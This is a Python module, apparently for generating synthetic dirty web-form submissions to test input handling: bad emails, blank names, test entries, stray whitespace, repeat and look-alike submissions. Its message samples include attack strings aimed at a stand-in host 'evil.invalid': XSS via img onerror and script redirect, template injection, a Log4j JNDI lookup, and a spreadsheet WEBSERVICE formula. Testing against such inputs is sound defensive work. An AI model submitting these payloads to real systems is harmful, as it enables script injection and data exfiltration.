"""The kinds of dirt in web forms: how often each occurs, how it is made, and what should come of it.

``SPOTS`` spoil one form; ``GROUPS`` make several forms look alike that are not one person; ``REPEATS`` are the same
person again. Shares are per thousand submissions.
"""

import unicodedata
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from datetime import timedelta
from random import Random
from typing import Any

Form = dict[str, Any]
NO_COMPANY = {"company_name": "", "vat_number": "", "kvk_number": ""}


def count(share: int, n: int) -> int:
    """How many of ``n`` submissions a share per thousand means."""
    return round(share * n / 1000)


@dataclass(frozen=True, slots=True)
class Spot:
    """Dirt in one form. ``fate`` is the value of a Fate."""

    name: str
    share: int
    fate: str
    soil: Callable[[Random, Form], None]


@dataclass(frozen=True, slots=True)
class Group:
    """``size`` people of one country who have something in common and are not one person."""

    name: str
    share: int
    size: int
    join: Callable[[Random, Sequence[Form]], None]


@dataclass(frozen=True, slots=True)
class Repeat:
    """One person again, between the two times of ``after``; ``change`` also gets his number typed another way."""

    name: str
    share: int
    after: tuple[timedelta, timedelta]
    change: Callable[[Random, Form, str], None]


def _set(field: str, *choices: Any) -> Callable[[Random, Form], None]:
    def soil(rng: Random, form: Form) -> None:
        form[field] = rng.choice(choices)

    return soil


def _missing_last_name(rng: Random, form: Form) -> None:
    blank = rng.choice(("", "  ", "\u00a0", None, "absent"))
    form["last_name"] = blank
    if blank == "absent":
        del form["last_name"]


def _invalid_email(rng: Random, form: Form) -> None:
    good = form["email"]
    form["email"] = rng.choice(
        (
            good.replace("@", " at "),
            good.replace("@", ""),
            good.partition("@")[0] + "@",
            good.replace("@", "@@"),
            good.replace("@", "@mijn "),
            "onbekend",
            "",
        )
    )


def _test(rng: Random, form: Form) -> None:
    form["first_name"], form["last_name"], form["email"] = rng.choice(
        (
            ("test", "test", "test@test.example"),
            ("Test", "Tester", "tester@example.com"),
            ("asdf", "asdf", "asdf@example.net"),
            ("qwerty", "qwerty", "qwerty@example.org"),
            ("xxx", "xxx", "xxx@example.com"),
        )
    )


def _case(rng: Random, form: Form) -> None:
    change = rng.choice((str.upper, str.lower))
    form["first_name"], form["last_name"] = change(form["first_name"]), change(form["last_name"])


def _emoji_in_name(rng: Random, form: Form) -> None:
    form["first_name"] += " " + rng.choice(
        ("\U0001f6b2", "\u26a1", "\U0001f468\u200d\U0001f373", "\U0001f1e7\U0001f1ea")
    )


def _long_name(rng: Random, form: Form) -> None:
    parts = [form["last_name"]]
    while len("-".join(parts)) <= 80:
        parts.append(form["last_name"][::-1].capitalize() + rng.choice(("sma", "inho", "ette")))
    form["last_name"] = "-".join(parts)


def _spaces(rng: Random, form: Form) -> None:
    field = rng.choice(("email", "last_name", "postcode"))
    form[field] = rng.choice(("\u00a0{}", " {} ", "{}\t", "{}\u00a0\u00a0", "\u200b{}")).format(form[field])


def _decomposed(_rng: Random, form: Form) -> None:
    form["first_name"] = "Renée"  # every form of this kind has an accent to take apart
    for field in ("first_name", "last_name", "city"):
        form[field] = unicodedata.normalize("NFD", form[field])


def _make_company(form: Form) -> None:
    form["customer_type"] = "company"
    form["company_name"] = form["company_name"] or f"Bureau {form['last_name']}"


def _no_registration(_rng: Random, form: Form) -> None:
    _make_company(form)
    form["vat_number"] = form["kvk_number"] = ""


def _no_company_name(rng: Random, form: Form) -> None:
    form["customer_type"], form["company_name"] = "company", ""
    if not form["vat_number"] and not form["kvk_number"]:
        form["vat_number"] = f"DE887{rng.randint(0, 999999):06d}"


def _cards_as_text(rng: Random, form: Form) -> None:
    form["number_of_cards"] = rng.choice(("{}", "{} ", "0{}", "\u00a0{}")).format(form["number_of_cards"])


_MARKUP = (
    "<i>Dank</i> &amp; tot ziens",
    "<img src=x onerror=\"fetch('//evil.invalid')\">",
    "{{constructor.constructor('x')()}}",
    "</p><script>location='//evil.invalid'</script>",
    "%3Cb%3Ehallo%3C/b%3E ${jndi:ldap://evil.invalid/a}",
)
_FORMULAS = (
    "=SUM(B1:B9)",
    "+31 graag bellen",
    "-1 kaart is ook goed",
    "@INDIRECT(A1)",
    '=WEBSERVICE("//evil.invalid")',
)

SPOTS = (
    Spot("invalid_email", 10, "refused", _invalid_email),
    Spot("missing_last_name", 12, "refused", _missing_last_name),
    Spot("test", 10, "refused", _test),
    Spot("terms_not_accepted", 5, "refused", _set("consent_terms", False)),
    Spot("name_too_long", 6, "open", _long_name),
    Spot("company_without_name", 5, "open", _no_company_name),
    Spot("company_without_number", 8, "order", _no_registration),
    Spot("name_in_one_case", 30, "order", _case),
    Spot("emoji_in_name", 8, "order", _emoji_in_name),
    Spot(
        "emoji_in_message",
        8,
        "order",
        _set("message", "\U0001f50c\U0001f697 top!", "\U0001f44d\U0001f3fd", "\u2615"),
    ),
    Spot("markup_in_message", 8, "order", _set("message", *_MARKUP)),
    Spot("formula_in_message", 5, "order", _set("message", *_FORMULAS)),
    Spot(
        "line_breaks", 10, "order", _set("message", 'Hallo,\r\n\r\neen "vraag";\tzie onder\r\nDag', "a,b\n;c")
    ),
    Spot("outer_spaces", 10, "order", _spaces),
    Spot("decomposed_accents", 6, "order", _decomposed),
    Spot("cards_as_text", 6, "order", _cards_as_text),
)


def _colleagues(rng: Random, forms: Sequence[Form]) -> None:
    leader = forms[0]
    _make_company(leader)
    leader["kvk_number"], leader["vat_number"] = f"77{rng.randint(0, 999999):06d}", ""
    for form in forms[1:]:
        form["customer_type"], form["company_name"] = "company", leader["company_name"]
        form["kvk_number"], form["vat_number"] = leader["kvk_number"], ""
    forms[1]["kvk_number"] = f"{leader['kvk_number'][:4]} {leader['kvk_number'][4:]}"


def _shared_email(_rng: Random, forms: Sequence[Form]) -> None:
    forms[1]["email"] = forms[0]["email"]


def _couple(rng: Random, forms: Sequence[Form]) -> None:
    one, other = forms
    for field in ("last_name", "street", "house_number", "postcode", "city", "email", "language"):
        other[field] = one[field]
    one["first_name"], other["first_name"] = rng.choice(
        (("Elke", "Piet"), ("Marc", "Nadia"), ("Olga", "Sam"))
    )


def _namesakes(_rng: Random, forms: Sequence[Form]) -> None:
    forms[1]["first_name"], forms[1]["last_name"] = forms[0]["first_name"], forms[0]["last_name"]


GROUPS = (
    Group("colleagues", 3, 3, _colleagues),
    Group("shared_email", 2, 2, _shared_email),
    Group("couple_with_one_email", 1, 2, _couple),
    Group("namesakes", 7, 2, _namesakes),
)


def _nothing(_rng: Random, form: Form, _phone: str) -> None:
    """A double click sends the same form twice."""


def _other_spelling(rng: Random, form: Form, phone: str) -> None:
    form["email"] = form["email"].upper() if rng.random() < 0.5 else form["email"].title()
    form["phone"] = phone


def _careless_name(_rng: Random, form: Form, _phone: str) -> None:
    form["first_name"], form["last_name"] = form["first_name"].lower(), form["last_name"] + " "
    form["number_of_cards"] += 1 if form["number_of_cards"] < 40 else 0


def _initial(_rng: Random, form: Form, _phone: str) -> None:
    form["first_name"] = form["first_name"][0] + "."
    form["message"] = "Ik heb nog niets gehoord, daarom opnieuw"


def _changed_mind(_rng: Random, form: Form, _phone: str) -> None:
    form["email"], form["street"] = "\u00a0" + form["email"], form["street"] + " "
    form["consent_marketing"] = not form["consent_marketing"]


def _mistyped_email(_rng: Random, form: Form, _phone: str) -> None:
    form["email"] = form["email"].replace(".", "", 1)
    form["first_name"], form["last_name"] = form["first_name"].upper(), form["last_name"].upper()


_SECONDS = (timedelta(seconds=1), timedelta(seconds=6))
_DAYS = (timedelta(hours=5), timedelta(days=12))

REPEATS = (
    Repeat("double_click", 5, _SECONDS, _nothing),
    Repeat("again_other_spelling", 4, _DAYS, _other_spelling),
    Repeat("again_careless_name", 3, _DAYS, _careless_name),
    Repeat("again_initial", 3, _DAYS, _initial),
    Repeat("again_changed_mind", 3, _DAYS, _changed_mind),
    Repeat("again_mistyped_email", 2, _DAYS, _mistyped_email),
)
